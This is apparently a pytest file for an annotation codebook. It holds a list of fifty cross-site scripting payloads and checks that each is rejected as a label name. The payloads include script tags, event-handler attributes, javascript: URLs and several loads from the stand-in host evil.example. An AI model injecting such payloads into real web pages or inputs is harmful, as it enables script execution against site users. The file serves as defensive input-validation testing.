"""Fifty payloads that would run a script or fetch something: none can be the name of a label."""

import dataclasses
import json

import pytest

from annotations.codebook import Codebook, Label
from annotations.errors import CodebookError

TAGS = """<script>alert(1)</script>|<ScRiPt>alert(1)</sCrIpT>|<script src=//evil.example/x.js></script>|<script/x>alert(1)</script>
</script><script>alert(1)//|<img src=x onerror=alert(1)>|<img src=x onerror="alert(1)"/>|<img/src=x/onerror=alert(1)>
<IMG SRC=x ONERROR=alert(1)>|<img src=x:x onerror=alert`1`>|<svg onload=alert(1)>|<svg/onload=alert(1)>|<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x>|<svg><a href=javascript:alert(1)>x|<math><mtext><img src=x onerror=alert(1)>
<math href=javascript:alert(1)>x</math>|<body onload=alert(1)>|<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>">|<object data=javascript:alert(1)>|<embed src=javascript:alert(1)>|<a href=javascript:alert(1)>x</a>
<a href="java&#10;script:alert(1)">x</a>|<form action=javascript:alert(1)><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>|<input autofocus onfocus=alert(1)>|<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>|<details open ontoggle=alert(1)>x|<video src=x onerror=alert(1)>|<audio src=x onerror=alert(1)>
<video><source onerror=alert(1)>|<marquee onstart=alert(1)>x</marquee>|<meta http-equiv=refresh content="0,url=javascript:alert(1)">
<base href=//evil.example/>|<link rel=stylesheet href=//evil.example/x.css>|<style>@import '//evil.example/x.css'</style>
<xss onfocus=alert(1) tabindex=1 autofocus>x|<div style="background:url(//evil.example)">x</div>|"><script>alert(1)</script>
'><img src=x onerror=alert(1)>|" onmouseover=alert(1) x="|' autofocus onfocus='alert(1)|--><script>alert(1)</script>
</textarea><script>alert(1)</script>|</title></style><script>alert(1)</script>|${alert(1)} {{alert(1)}} #{alert(1)} <%= alert(1) %>
[x](javascript:alert(1)) ![x](x"onerror="alert(1))|&lt;script&gt;alert(1)&lt;/script&gt; \\u003cscript\\u003ealert(1)"""
PAYLOADS = [payload for line in TAGS.split("\n") for payload in line.split("|")]


def test_a_label_cannot_be_a_payload() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 50
    shape = json.loads(json.dumps(Codebook.load().to_dict()))
    for payload in PAYLOADS:
        shape["question"][0]["label"][0] = dataclasses.asdict(Label(payload, "Nothing."))
        with pytest.raises(CodebookError, match="cannot be used"):
            Codebook.from_dict(shape)
